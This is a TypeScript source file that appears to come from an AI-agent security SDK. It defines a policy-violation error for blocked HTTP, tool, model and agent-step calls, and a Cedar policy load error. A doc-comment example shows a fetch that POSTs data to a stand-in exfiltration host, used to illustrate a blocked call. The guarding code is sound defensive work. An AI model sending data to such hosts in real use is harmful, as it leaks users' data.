import { type CedarDiagnostic, TruseraError } from "@trusera/core";

export { ConfigurationError, TruseraError, ValidationError } from "@trusera/core";

/** What a blocked HTTP call was, as `PolicyViolationError` carries it. */
export interface ViolationDetail {
  /** Upper case, e.g. `POST`. */
  method: string;
  /** With secret-looking query values and passwords redacted. */
  url: string;
  /** The client library the call went through: `fetch`, `undici`, `axios` or `http`. */
  library: string;
  /** The policies that decided it (empty when no policy matched, or none was loaded). */
  policyIds: readonly string[];
  /** Why, in words: the forbidding policies, a default deny, or `failClosed` with no policy. */
  reasons: readonly string[];
}

/** The actions a framework integration decides (see docs/integrations.md). */
export type GuardedAction = "tool_call" | "llm_invoke" | "decision";

/** What a blocked tool call, model call or agent step was, as `PolicyViolationError` carries it. */
export interface ActionViolationDetail {
  action: GuardedAction;
  /** The tool, model or step name: the Cedar resource id. */
  resource: string;
  /** The integration that stopped it: `langchain`, `ai`, `openai` or `mcp`. */
  library: string;
  policyIds: readonly string[];
  reasons: readonly string[];
}

const NOUN: Record<GuardedAction, string> = { tool_call: "tool", llm_invoke: "model", decision: "step" };

/**
 * A call denied by policy in `block` mode; it never ran. For HTTP: `fetch` rejects with it, axios
 * rejects with it, `http.request` emits it as `error`, and nothing left the process. For a framework
 * integration: the tool, model call or agent step did not run (see docs/integrations.md for how each
 * framework surfaces it).
 *
 * @example
 * try { await fetch("https://exfil.example/upload", { method: "POST", body }); }
 * catch (err) { if (err instanceof PolicyViolationError) console.log(err.policyIds); }
 */
export class PolicyViolationError extends TruseraError {
  readonly decision = "deny" as const;
  /** `api_call` for HTTP, else the integration's action: `tool_call`, `llm_invoke` or `decision`. */
  readonly action: "api_call" | GuardedAction;
  /** What was denied: the (redacted) URL of an HTTP call, or the tool, model or step name. */
  readonly resource: string;
  readonly policyIds: readonly string[];
  readonly reasons: readonly string[];
  /** The HTTP method; "" for other actions. */
  readonly method: string;
  /** The redacted URL; "" for other actions. */
  readonly url: string;
  /** `fetch`, `undici`, `axios`, `http`, or the integration: `langchain`, `ai`, `openai`, `mcp`. */
  readonly library: string;

  constructor(detail: ViolationDetail | ActionViolationDetail) {
    const reasons = detail.reasons.join("; ");
    const http = !("action" in detail);
    super(
      http
        ? `[Trusera] Policy violation: ${detail.method} ${detail.url} denied (${reasons})`
        : `[Trusera] Policy violation: ${NOUN[detail.action]} ${detail.resource} denied - ${reasons}`,
      "TRUSERA_POLICY_VIOLATION",
    );
    this.name = "PolicyViolationError";
    this.policyIds = Object.freeze([...detail.policyIds]);
    this.reasons = Object.freeze([...detail.reasons]);
    this.library = detail.library;
    if (http) {
      this.action = "api_call";
      this.resource = detail.url;
      this.method = detail.method;
      this.url = detail.url;
    } else {
      this.action = detail.action;
      this.resource = detail.resource;
      this.method = "";
      this.url = "";
    }
  }
}

/**
 * `CedarEvaluator.loadPolicy` refused a policy set: a syntax error, or a policy that does not fit the
 * request model (`resource.hostnme`). Each diagnostic has the policy id, line and column.
 */
export class PolicyLoadError extends TruseraError {
  readonly diagnostics: readonly CedarDiagnostic[];

  constructor(diagnostics: readonly CedarDiagnostic[]) {
    const lines = diagnostics.map(
      (d) => `${d.policyId ? `${d.policyId} ` : ""}at ${d.line}:${d.column}: ${d.message}`,
    );
    super(`Invalid Cedar policy set: ${lines.join("; ")}`, "TRUSERA_POLICY_INVALID");
    this.name = "PolicyLoadError";
    this.diagnostics = Object.freeze([...diagnostics]);
  }
}
